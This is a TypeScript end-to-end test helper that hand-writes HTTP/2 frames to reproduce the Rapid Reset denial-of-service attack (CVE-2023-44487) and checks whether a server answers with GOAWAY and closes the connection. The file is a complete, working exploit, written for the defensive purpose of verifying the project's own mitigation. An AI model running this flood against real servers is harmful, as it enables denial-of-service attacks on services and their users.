// Run inside a namespace (test/e2e/http2.test.ts): an HTTP/2 client that opens streams and
// resets each at once (CVE-2023-44487) until the server ends its session, then connects again,
// `sessions` times. Prints one JSON line: the first session's GOAWAY code (or null), how many
// streams it opened, whether the connection closed, and the same for every session.
//
// It writes its frames by hand over TLS, as attack tools do, rather than through node:http2:
// Node's client stops reading its socket while one of its own writes is in flight, so a flood
// of its own frames can keep it from ever reading the server's GOAWAY and FIN (seen in this
// test: the server's GOAWAY and FIN were on the client's interface, and the client had read
// 42 bytes).
import { readFileSync } from 'node:fs';
import { connect } from 'node:tls';

interface Spec {
  readonly url: string;
  readonly ca: string;
  readonly servername: string;
  /** Streams a connection sends at most. */
  readonly count: number;
  /** Connections, one after another (default 1). */
  readonly sessions?: number;
}

const FRAME = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK "literal without indexing, indexed name" (RFC 7541 6.2.2), no Huffman; short values. */
function literal(nameIndex: number, value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length > 126) throw new Error('value too long for this encoder');
  return Buffer.concat([Buffer.from([nameIndex, bytes.length]), bytes]);
}

const spec = JSON.parse(process.argv[2] ?? '{}') as Spec;
const url = new URL(spec.url);
// Static table (RFC 7541 appendix A): 2 = :method GET, 7 = :scheme https, 1 = :authority,
// 4 = :path.
const headerBlock = Buffer.concat([
  Buffer.from([0x82, 0x87]),
  literal(1, spec.servername),
  literal(4, '/notes?limit=1'),
]);
const cancel = Buffer.alloc(4);
cancel.writeUInt32BE(CANCEL);

const ca = readFileSync(spec.ca);

interface SessionResult {
  /** The first GOAWAY's error code, null if none came. */
  readonly goaway: number | null;
  readonly goaways: number[];
  /** Streams this client sent (HEADERS + RST_STREAM), whatever the server had read of them. */
  readonly opened: number;
  /** Whether the server closed the connection within the session's 20 s. */
  readonly closed: boolean;
  readonly error?: string;
}

/** One connection's attack, until the server closes it or 20 s pass. */
function attack(): Promise<SessionResult> {
  return new Promise((resolve) => {
    let goaway: number | null = null;
    const goaways: number[] = [];
    let opened = 0;
    let error: string | undefined;
    let started = false;
    const socket = connect({
      host: url.hostname,
      port: Number(url.port || 443),
      ca,
      servername: spec.servername,
      ALPNProtocols: ['h2'],
    });
    const done = (closed: boolean) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ goaway, goaways, opened, closed, ...(error === undefined ? {} : { error }) });
    };
    const timer = setTimeout(() => done(false), 20_000);
    socket.on('error', (err: Error) => (error = err.message));
    socket.on('close', () => done(true));

    // In rounds of 50 (under the server's concurrency limit), each stream's HEADERS followed at
    // once by its RST_STREAM, before any answer could come back: the pattern of CVE-2023-44487.
    const round = () => {
      if (goaway !== null || socket.destroyed) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < 50 && opened < spec.count; i++) {
        const id = 1 + 2 * opened;
        frames.push(frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, headerBlock));
        frames.push(frame(FRAME.RST_STREAM, 0, id, cancel));
        opened++;
      }
      socket.write(Buffer.concat(frames));
      if (opened < spec.count) setTimeout(round, 1);
    };

    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') {
        error = `ALPN chose ${String(socket.alpnProtocol)}`;
        socket.destroy();
        return;
      }
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
    });

    // Reads frames only as far as this needs: SETTINGS (acknowledged; the first starts the
    // rounds) and GOAWAY's error code.
    let pending = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending[3]!;
        const flags = pending[4]!;
        const payload = pending.subarray(9, 9 + length);
        pending = pending.subarray(9 + length);
        if (type === FRAME.SETTINGS && (flags & ACK) === 0) {
          socket.write(frame(FRAME.SETTINGS, ACK, 0, Buffer.alloc(0)));
          if (!started) {
            started = true;
            round();
          }
        } else if (type === FRAME.GOAWAY && payload.length >= 8) {
          goaways.push(payload.readUInt32BE(4));
          goaway ??= goaways[0]!;
        }
      }
    });
  });
}

// One connection after another, as an attacker reconnects once a session is ended.
const sessions: SessionResult[] = [];
for (let i = 0; i < (spec.sessions ?? 1); i++) sessions.push(await attack());
process.stdout.write(`${JSON.stringify({ ...sessions[0], sessions })}\n`);
